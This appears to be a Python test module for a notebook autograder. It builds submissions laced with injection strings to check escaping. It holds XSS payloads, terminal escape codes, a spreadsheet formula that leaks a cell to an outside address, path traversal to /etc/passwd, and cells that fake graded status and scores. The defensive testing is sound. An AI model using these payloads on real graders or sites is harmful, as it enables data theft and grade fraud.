"""Text that acts where somebody reads it: in pages, terminals, tables."""

import nbformat

from submissions import WORTHLESS, Attack

EVIL = ("<script>escaped()</script>", "\x1b[31m\x1b[2J\x1b]0;escaped\x07", '=HYPERLINK("http://192.0.2.1/?"&A1)', "\u202egnp.exe", "a\x00b", "\ud800", "\u2028\u2029\x85",
        "]]>-->'\"><svg onload=escaped()>", "\r\nstatus: graded\rscore: 20", "{{ 7*7 }}${7*7}{% raw %}", "../../../../etc/passwd", "x" * 100_000)  # fmt: skip


def ids(notebook):
    for number, cell in enumerate(notebook.cells):
        if "nbgrader" not in cell.metadata:
            cell["id"] = f"<b>{number}\x1b[2J"
            cell.metadata["name"] = cell.metadata["tags"] = EVIL[number % len(EVIL)]
    notebook.metadata["authors"] = [{"name": text} for text in EVIL]
    notebook.metadata["kernelspec"] = {"name": EVIL[0], "display_name": EVIL[1], "language": EVIL[2]}


def markdown(notebook):
    for text in EVIL[:10]:
        notebook.cells.append(
            nbformat.v4.new_markdown_cell(f"# {text}\n[press](javascript:escaped()) <img src=x onerror=escaped()>")
        )
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "derivation":
            cell.source = "\n".join(EVIL[:10])


def grade_ids(notebook):
    for number, text in enumerate(EVIL[:10]):
        tag = {
            "grade_id": text,
            "grade": True,
            "solution": True,
            "locked": False,
            "points": 99,
            "schema_version": 3,
            "task": False,
            "cell_type": "code",
        }
        notebook.cells.insert(number, nbformat.v4.new_code_cell(f"print('fired {number}')", metadata={"nbgrader": tag}))


EXCEPTIONS = [
    Attack(f"exception_{name}", f"raises exceptions whose text and type hold {name}", "fired", (), f"""
def {{0}}(W, X, y, reg):
    text = {text!r}
    raise type(''.join(c for c in text[:300] if 0 < ord(c) < 0xd800) or 'E', (Exception,), {{}})('fired ' + text)
""".replace("{{}}", "{}"))
    for name, text in zip(("html", "ansi", "formulas", "bidi", "nul", "surrogates", "line_separators", "markup", "new_lines", "templates", "paths", "length"), EVIL, strict=True)
]  # fmt: skip

ATTACKS: list[Attack] = [
    *EXCEPTIONS,
    Attack("outputs", "prints, shows and writes to stderr what acts in pages and terminals", "fired", (
        "import sys\n" + "".join(f"print('fired', {text!r}); print({text!r}, file=sys.stderr); display({{'text/plain': {text!r}}}, raw=True)\n" for text in EVIL),)),
    Attack("function_names", "has functions and files whose names act", "fired", (
        f"code = compile('def f():\\n    raise ValueError(\"fired\")', {EVIL[0]!r}, 'exec')\nexec(code)\nf.__name__ = f.__qualname__ = {EVIL[0]!r}\n"
        f"f.__code__ = f.__code__.replace(co_name={EVIL[1]!r}, co_filename='<ipython-input-' + {EVIL[3]!r} + '>')\nf()",)),
    Attack("cell_names", "has ids, tags and metadata that act", "fired", ("print('fired')",), edit=ids),
    Attack("words", "writes Markdown that acts, in its answer and beside", "fired", ("print('fired')",), edit=markdown),
    Attack("graded_names", "has cells that claim to be graded, with names that act", "fired", (), edit=grade_ids),
    Attack("source", "has all of it in comments and texts of its answers", "fired", ("print('fired')",),
           WORTHLESS + "".join(f"# {text}\n" for text in EVIL if text.isprintable() and "{" not in text and len(text) < 99)),
    Attack("cell_failures", "fails in its own cells with texts that act", "fired <script>", tuple(f"raise ValueError('fired ' + {text!r})" for text in EVIL)),
]  # fmt: skip
